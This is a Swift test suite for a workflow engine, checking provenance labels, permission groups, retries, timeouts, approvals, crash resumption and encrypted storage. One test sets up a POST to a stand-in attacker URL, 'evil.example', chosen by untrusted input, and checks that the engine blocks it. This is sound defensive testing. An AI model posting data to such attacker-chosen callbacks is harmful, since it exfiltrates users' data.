import AnimaAutomation
import AnimaCore
import Foundation
import Testing

@Suite("Durable workflow runs")
struct WorkflowEngineTests {
    func engine(_ store: SQLiteWorkflowStore, _ actions: RecordingActions, lease: Double = 10) -> WorkflowEngine {
        WorkflowEngine(store: store, actions: actions, leaseSeconds: lease, pollInterval: .milliseconds(10))
    }

    @Test func valuesFlowByReferenceWithTheirLabels() async throws {
        let store = try temporaryStore()
        let actions = RecordingActions()
        let e = engine(store, actions)
        _ = try await e.add(
            """
            {"name": "flow", "groups": ["net"],
             "inputs": {"type": "object", "properties": {"topic": {"type": "string"}}, "required": ["topic"]},
             "output": {"sum": "${steps.summarise.output}", "count": "${steps.each.output}"},
             "steps": [
               {"id": "get", "type": "http", "url": "https://api.example/items?q=${inputs.topic}"},
               {"id": "each", "type": "loop", "over": "${steps.get.output.body.items}", "as": "n",
                "steps": [{"id": "post", "type": "http", "method": "POST", "url": "https://api.example/n", "body": {"n": "${n}", "key": "${step.key}"}}]},
               {"id": "big", "type": "condition", "if": {"gt": ["${steps.get.output.body.items.2}", 2]},
                "then": [{"id": "summarise", "type": "agent", "task": "Summarise ${steps.get.output.body}"}],
                "else": [{"id": "never", "type": "tool", "tool": "calculator"}]}
             ]}
            """, owner: alice)
        let started = try await e.start("flow", inputs: ["topic": "cats"], caller: alice)
        let run = try await e.wait(started.id)
        #expect(run.status == .completed, "\(run.error ?? "")")
        #expect(actions.calls.map(\.kind) == ["http", "http", "http", "http", "agent"])
        #expect(actions.calls[0].detail == "GET https://api.example/items?q=cats ")
        #expect(actions.calls[2].detail.contains(#""n":2"#))
        #expect(actions.calls[2].detail.contains(#""key":"\#(run.id)/each[1]/post""#))
        #expect(actions.calls[4].detail.hasPrefix("alice [\"net\"] Summarise"))
        // The output was made from web content through an agent: both labels stay with it.
        let label = try #require(run.output?.label)
        #expect(label.sources.contains(.web) && label.sources.contains(.agent(9)))
        #expect(run.output?.value["sum"]?.stringValue?.hasPrefix("summary of:") == true)
        #expect(
            Set(try await store.steps(run: run.id).map(\.path)) == ["get", "each[0]/post", "each[1]/post", "each[2]/post", "summarise"])
    }

    @Test func aRunHasAtMostItsOwnersGroupsAndUntrustedDataCannotChooseAURL() async throws {
        let store = try temporaryStore()
        let actions = RecordingActions()
        let e = engine(store, actions)
        let bob = Principal(name: "bob", groups: ["users"])
        _ = try await e.add(
            #"{"name": "net", "groups": ["net"], "steps": [{"id": "get", "type": "http", "url": "https://x.example/"}]}"#, owner: bob)
        let denied = try await e.wait(try await e.start("net", caller: bob).id)
        #expect(denied.status == .failed)
        #expect(denied.error?.contains("step `get` was denied: HTTP needs the `net` group") == true)
        #expect(actions.calls.isEmpty)

        _ = try await e.add(
            #"{"name": "hook", "groups": ["net"], "steps": [{"id": "post", "type": "http", "method": "POST", "url": "${inputs.callback}"}]}"#,
            owner: alice)
        let exfiltrate = try await e.start(
            "hook", inputs: ["callback": "https://evil.example/"], label: ProvenanceLabel(.web), caller: alice)
        let run = try await e.wait(exfiltrate.id)
        #expect(run.status == .failed)
        #expect(run.error?.contains("its URL is built from untrusted data (web)") == true)
        #expect(actions.calls.isEmpty)
        // Someone else may not run alice's workflow.
        await #expect(throws: WorkflowError.self) { try await e.start("hook", caller: bob) }
    }

    @Test func badInputsAreRefusedBeforeAnyStep() async throws {
        let e = engine(try temporaryStore(), RecordingActions())
        _ = try await e.add(
            #"{"name": "typed", "inputs": {"type": "object", "properties": {"n": {"type": "integer"}}, "required": ["n"]}, "steps": [{"id": "w", "type": "wait", "seconds": 0}]}"#,
            owner: alice)
        await #expect(throws: WorkflowError.self) { try await e.start("typed", inputs: ["n": "three"], caller: alice) }
        await #expect(throws: WorkflowError.self) { try await e.start("typed", inputs: [:], caller: alice) }
        await #expect(throws: WorkflowError.self) { try await e.start("typed", inputs: [1, 2], caller: alice) }
        await #expect(throws: WorkflowError.self) { try await e.start("missing", caller: alice) }
    }

    @Test func retriesBackOffThenGiveUpWithTheStepNamed() async throws {
        let store = try temporaryStore()
        let actions = RecordingActions()
        let e = engine(store, actions)
        _ = try await e.add(
            #"{"name": "flaky", "groups": ["net"], "steps": [{"id": "get", "type": "http", "url": "https://x.example/a", "retry": {"attempts": 3, "backoff": 0.05}}]}"#,
            owner: alice)
        actions.fail("/a", times: 2)
        let ok = try await e.wait(try await e.start("flaky", caller: alice).id)
        #expect(ok.status == .completed)
        #expect(actions.keys == Array(repeating: "\(ok.id)/get", count: 3))  // one key for every attempt
        let history = try await store.history(run: ok.id).map(\.event)
        #expect(history.filter { $0 == "step-retrying" }.count == 2)

        actions.fail("/a", times: 5)
        let failed = try await e.wait(try await e.start("flaky", caller: alice).id)
        #expect(failed.status == .failed)
        #expect(failed.error == "step `get` failed: /a is down")
    }

    @Test func aStepPastItsTimeoutFails() async throws {
        let actions = RecordingActions()
        let e = engine(try temporaryStore(), actions)
        _ = try await e.add(
            #"{"name": "slow", "groups": ["net"], "steps": [{"id": "get", "type": "http", "url": "https://x.example/s", "timeout": 0.1}]}"#,
            owner: alice)
        actions.delay("/s", seconds: 5)
        let clock = ContinuousClock()
        let start = clock.now
        let run = try await e.wait(try await e.start("slow", caller: alice).id)
        #expect(run.status == .failed)
        #expect(run.error?.contains("did not finish within its timeout of 0.1 s") == true)
        #expect(start.duration(to: clock.now) < .seconds(3))
    }

    @Test func cancelStopsAWaitingRunAndApprovalsResumeOne() async throws {
        let store = try temporaryStore()
        let actions = RecordingActions()
        let e = engine(store, actions)
        _ = try await e.add(
            #"{"name": "sleepy", "steps": [{"id": "nap", "type": "wait", "seconds": 3600}, {"id": "after", "type": "tool", "tool": "t"}]}"#,
            owner: alice)
        let run = try await e.start("sleepy", caller: alice)
        try await Task.sleep(for: .milliseconds(100))
        #expect(try await e.cancel(run.id, caller: alice))
        #expect(try await e.wait(run.id).status == .cancelled)
        #expect(actions.calls.isEmpty)

        _ = try await e.add(
            #"{"name": "gate", "steps": [{"id": "ok", "type": "approval", "prompt": "ship it?"}, {"id": "go", "type": "condition", "if": "${steps.ok.output.approved}", "then": [{"id": "ship", "type": "tool", "tool": "deploy"}]}]}"#,
            owner: alice)
        let gated = try await e.start("gate", caller: alice)
        #expect(try await e.wait(gated.id, orWaiting: true).status == .waiting)
        await #expect(throws: WorkflowError.self) {
            try await e.approve(gated.id, step: "ok", approved: true, caller: Principal(name: "mallory"))
        }
        try await e.approve(gated.id, step: "ok", approved: true, caller: alice)
        #expect(try await e.wait(gated.id).status == .completed)
        #expect(actions.calls.map(\.detail) == ["{}"])
    }

    /// What a daemon killed mid-step leaves: a run leased by a dead worker, one step completed
    /// and the next started. Another engine takes it over once the lease expires, does not
    /// repeat the completed step, and retries the started one with the same key.
    @Test func aKilledDaemonsRunIsResumedWithoutRepeatingCompletedSteps() async throws {
        let store = try temporaryStore()
        let actions = RecordingActions()
        let dead = engine(store, RecordingActions())
        _ = try await dead.add(
            #"{"name": "three", "groups": ["net"], "steps": [{"id": "a", "type": "http", "url": "https://x.example/a"}, {"id": "b", "type": "http", "url": "https://x.example/b"}, {"id": "c", "type": "http", "url": "https://x.example/c"}]}"#,
            owner: alice)
        let stored = try #require(try await store.workflow(named: "three"))
        let run = try await store.createRun(
            id: "r1", of: stored, owner: alice, inputs: .init(.object([:]), label: .user), trigger: "manual", parent: nil)
        // A lease long enough that a loaded machine cannot let it lapse before the first look.
        #expect(try await store.claim(run.id, worker: "dead", leaseSeconds: 1.5))
        try await store.stepStarted(run: "r1", path: "a", key: "r1/a", attempt: 1)
        try await store.stepCompleted(run: "r1", path: "a", output: .init(.object(["status": 200]), label: ProvenanceLabel(.web)))
        try await store.stepStarted(run: "r1", path: "b", key: "r1/b", attempt: 1)

        let survivor = engine(store, actions)
        await survivor.resumeAll()
        #expect(actions.calls.isEmpty)  // the dead worker's lease still holds
        try await Task.sleep(for: .milliseconds(1600))
        await survivor.resumeAll()
        let finished = try await survivor.wait("r1")
        #expect(finished.status == .completed)
        #expect(actions.keys == ["r1/b", "r1/c"])
        #expect(try await store.step(run: "r1", path: "b")?.attempt == 1)  // a crash is not a failed attempt
    }

    /// A wait resumed after a crash ends when it would have, counted from its first start,
    /// not a full wait again from the restart.
    @Test func aResumedWaitCountsFromItsFirstStart() async throws {
        let store = try temporaryStore()
        let e = engine(store, RecordingActions())
        _ = try await e.add(#"{"name": "nap", "steps": [{"id": "w", "type": "wait", "seconds": 3}]}"#, owner: alice)
        let stored = try #require(try await store.workflow(named: "nap"))
        let run = try await store.createRun(
            id: "n1", of: stored, owner: alice, inputs: .init(.object([:]), label: .user), trigger: "manual", parent: nil)
        // The clock starts before the store records the step's start, so a slow store (a busy
        // machine) cannot make the wait look shorter than it was.
        let first = ContinuousClock.now
        try await store.stepStarted(run: run.id, path: "w", key: "n1/w", attempt: 1)
        try await Task.sleep(for: .seconds(2))
        await e.resumeAll()
        #expect(try await e.wait(run.id).status == .completed)
        // 3 s from the first start; a full wait again from the restart would end after 5 s.
        let elapsed = first.duration(to: .now)
        #expect(elapsed >= .milliseconds(2900) && elapsed < .milliseconds(4500), "\(elapsed)")
    }

    @Test func subWorkflowsAndCompletionTriggersChain() async throws {
        let store = try temporaryStore()
        let actions = RecordingActions()
        let e = engine(store, actions)
        _ = try await e.add(
            #"{"name": "child", "steps": [{"id": "t", "type": "tool", "tool": "echo", "arguments": {"v": "${inputs.v}"}}]}"#, owner: alice)
        _ = try await e.add(
            #"{"name": "parent", "steps": [{"id": "call", "type": "workflow", "workflow": "child", "inputs": {"v": 7}}]}"#, owner: alice)
        _ = try await e.add(
            #"{"name": "after", "triggers": [{"type": "completion", "workflow": "parent"}], "steps": [{"id": "t", "type": "tool", "tool": "notify", "arguments": {"run": "${inputs.run}"}}]}"#,
            owner: alice)
        let finished = await e.finishedRuns()
        let parent = try await e.start("parent", caller: alice)
        var seen: [String] = []
        for await run in finished {
            seen.append(run.workflow)
            if run.workflow == "after" { break }
        }
        #expect(seen == ["child", "parent", "after"])
        #expect(try await store.run(parent.id)?.output?.value["arguments"]?["v"] == 7)
        #expect(actions.calls.map(\.detail) == [#"{"v":7}"#, #"{"run":"\#(parent.id)"}"#])
        let runs = try await store.runs(workflow: "after", limit: 10)
        #expect(runs.first?.trigger == "completion:\(parent.id)")
    }

    /// Inputs, outputs, errors, history and webhook secrets are sealed: the database files
    /// hold none of them in the clear; reopening the store reads them back.
    @Test func nothingIsWrittenInTheClear() async throws {
        let store = try temporaryStore()
        let e = engine(store, RecordingActions())
        let (_, secret) = try await e.add(
            #"{"name": "sealed", "triggers": [{"type": "webhook"}], "steps": [{"id": "t", "type": "tool", "tool": "echo", "arguments": {"v": "${inputs.card}"}}, {"id": "bad", "type": "tool", "tool": "nope-${inputs.card}"}]}"#,
            owner: alice)
        let run = try await e.wait(try await e.start("sealed", inputs: ["card": "4111-SECRET-MARKER"], caller: alice).id)
        #expect(run.status == .completed || run.status == .failed)
        var bytes = Data()
        for suffix in ["", "-wal"] { bytes += FileManager.default.contents(atPath: store.path + suffix) ?? Data() }
        #expect(!bytes.isEmpty)
        #expect(bytes.range(of: Data("SECRET-MARKER".utf8)) == nil)
        #expect(bytes.range(of: Data(try #require(secret).utf8)) == nil)
        let reopened = try SQLiteWorkflowStore(directory: URL(fileURLWithPath: store.path).deletingLastPathComponent())
        #expect(try await reopened.run(run.id)?.inputs.value["card"] == "4111-SECRET-MARKER")
        #expect(try await reopened.workflow(named: "sealed")?.webhookSecret == secret)
    }
}
